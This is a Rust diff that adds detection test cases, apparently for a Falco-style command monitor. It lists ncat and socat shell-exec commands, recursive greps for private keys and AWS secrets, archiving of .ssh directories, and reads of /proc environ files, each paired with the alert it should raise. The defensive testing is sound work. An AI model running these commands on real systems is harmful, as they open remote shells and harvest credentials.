@@ -255,6 +255,20 @@ fn exec_table() -> Vec<Case> {
             vec!["tool-netcat-exec"],
         ),
         user(vec!["nc", "-lvp", "4444"], vec![]),
+        // ncat's long options (Falco's "Netcat Remote Code Execution in Container").
+        user(
+            vec!["ncat", "h", "4444", "--sh-exec", "/bin/bash -i"],
+            vec!["tool-netcat-exec"],
+        ),
+        user(
+            vec!["ncat", "-l", "4445", "--exec=/bin/sh"],
+            vec!["tool-netcat-exec"],
+        ),
+        user(
+            vec!["ncat", "--lua-exec", "x.lua", "h", "4446"],
+            vec!["tool-netcat-exec"],
+        ),
+        user(vec!["ncat", "--ssl", "h", "443"], vec![]),
         user(
             vec!["socat", "TCP:h:4444", "EXEC:/bin/bash"],
             vec!["tool-socat-exec"],
@@ -851,6 +865,61 @@ fn exec_table() -> Vec<Case> {
             vec!["grep", "-i", "password", "/etc/ssh/sshd_config"],
             vec![],
         ),
+        // Falco's "Search Private Keys or Passwords" and "Find AWS Credentials": a key's PEM
+        // header or the AWS key names searched for in a tree, wherever it starts.
+        user(
+            vec!["grep", "-r", "BEGIN RSA PRIVATE", "/tmp/x"],
+            vec!["discovery-password-search"],
+        ),
+        user(
+            vec!["grep", "BEGIN OPENSSH PRIVATE KEY", "-rl", "."],
+            vec!["discovery-password-search"],
+        ),
+        user(
+            vec!["grep", "-ri", "aws_secret_access_key", "/srv/app"],
+            vec!["discovery-password-search"],
+        ),
+        user(
+            vec!["rg", "-l", "aws_access_key_id"],
+            vec!["discovery-password-search"],
+        ),
+        user(
+            vec!["grep", "-q", "BEGIN RSA PRIVATE KEY", "/etc/ssl/private/site.key"],
+            vec![],
+        ),
+        user(
+            vec!["grep", "-r", "BEGIN CERTIFICATE", "/etc/ssl/certs"],
+            vec![],
+        ),
+        // Falco's "Read ssh information" (the directory archived) and "Read environment
+        // variable from /proc files" (another process's environment).
+        user(
+            vec!["tar", "czf", "/tmp/k.tgz", "-C", "/home/a", ".ssh"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(
+            vec!["zip", "-r", "/tmp/k.zip", "/root/.ssh/"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(
+            vec!["tar", "xzf", "/tmp/k.tgz", "-C", "/home/a/.ssh"],
+            vec![],
+        ),
+        user(vec!["cp", "k.pub", "/home/a/.ssh/"], vec![]),
+        user(
+            vec!["cat", "/proc/1/environ"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(
+            vec!["strings", "/proc/*/environ"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(
+            vec!["xargs", "-0", "-L1", "-a", "/proc/1/environ"],
+            vec!["discovery-credential-file-read"],
+        ),
+        user(vec!["cat", "/proc/self/environ"], vec![]),
+        user(vec!["cat", "/proc/1/cmdline"], vec![]),
         user(
             vec!["cat", "/root/.aws/credentials"],
             vec!["discovery-credential-file-read"],
